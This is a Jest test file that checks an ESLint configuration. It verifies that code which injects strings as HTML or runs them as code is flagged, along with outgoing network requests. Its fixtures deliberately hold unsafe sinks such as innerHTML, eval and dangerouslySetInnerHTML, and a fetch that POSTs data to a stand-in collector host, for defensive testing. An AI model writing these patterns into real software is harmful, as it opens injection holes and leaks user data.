/**
 * The lint rules that keep text from documents as data (eslint.config.mjs): a snippet with each
 * forbidden construct, linted as if it were a file of src/, gets exactly one error per line.
 * ESLint runs as a child process (its flat config is an ES module, which Jest's CommonJS
 * runtime cannot import).
 */
import { spawnSync } from "node:child_process";
import path from "node:path";

const ROOT = path.resolve(__dirname, "../..");
const ESLINT = path.join(ROOT, "node_modules/eslint/bin/eslint.js");

jest.setTimeout(60_000);

interface LintMessage {
  line: number;
  ruleId: string | null;
  message: string;
}

function lint(code: string, filePath: string): LintMessage[] {
  const result = spawnSync(
    process.execPath,
    [ESLINT, "--stdin", "--stdin-filename", filePath, "--format", "json", "--no-warn-ignored"],
    { cwd: ROOT, input: code, encoding: "utf8" },
  );
  if (result.status === 2 || !result.stdout) throw new Error(`eslint failed: ${result.stderr}`);
  const [file] = JSON.parse(result.stdout) as { messages: LintMessage[] }[];
  return file?.messages ?? [];
}

const BAD = [
  "export function Bad(props: { html: string; el: HTMLElement }) {",
  "  props.el.innerHTML = props.html;",
  "  props.el.outerHTML = props.html;",
  '  props.el.insertAdjacentHTML("beforeend", props.html);',
  "  document.write(props.html);",
  "  eval(props.html);",
  "  const f = new Function(props.html);",
  '  setTimeout("alert(1)", 10);',
  "  setInterval(`${props.html}`, 10);",
  "  document.createRange().createContextualFragment(props.html);",
  "  return <div dangerouslySetInnerHTML={{ __html: props.html }} onClick={f} />;",
  "}",
].join("\n");

const NETWORK = [
  "export async function send(data: string, url: string) {",
  '  await fetch("https://collector.example.org/x", { method: "POST", body: data });',
  "  await fetch(url);",
  '  navigator.sendBeacon("/x", data);',
  '  new WebSocket("wss://example.org");',
  "  const x = new XMLHttpRequest();",
  '  return fetch("//example.org/x");',
  "}",
].join("\n");

const GOOD = [
  "export function Good(props: { text: string; el: HTMLElement }) {",
  "  props.el.textContent = props.text;",
  "  setTimeout(() => props.el.focus(), 10);",
  '  void fetch("functions.json");',
  "  return <div title={props.text}>{props.text}</div>;",
  "}",
].join("\n");

describe("lint rules against markup and eval in src/", () => {
  it("flag every line that turns a string into markup or code", () => {
    const messages = lint(BAD, "src/taskpane/bad-example.tsx");
    const lines = messages.map((m) => m.line);
    expect([...new Set(lines)].sort((a, b) => a - b)).toEqual([2, 3, 4, 5, 6, 7, 8, 9, 10, 11]);
    const rules = new Set(messages.map((m) => m.ruleId));
    expect(rules).toEqual(new Set(["no-restricted-syntax", "no-eval", "no-new-func"]));
    expect(messages.find((m) => m.line === 11)?.message).toContain("dangerouslySetInnerHTML");
  });

  it("flag every network request but a fetch of the add-in's own files", () => {
    const lines = lint(NETWORK, "src/taskpane/send-example.ts").map((m) => m.line);
    expect([...new Set(lines)].sort((a, b) => a - b)).toEqual([2, 3, 4, 5, 6, 7]);
  });

  it("leave text rendered as text alone", () => {
    expect(lint(GOOD, "src/taskpane/good-example.tsx")).toEqual([]);
  });
});
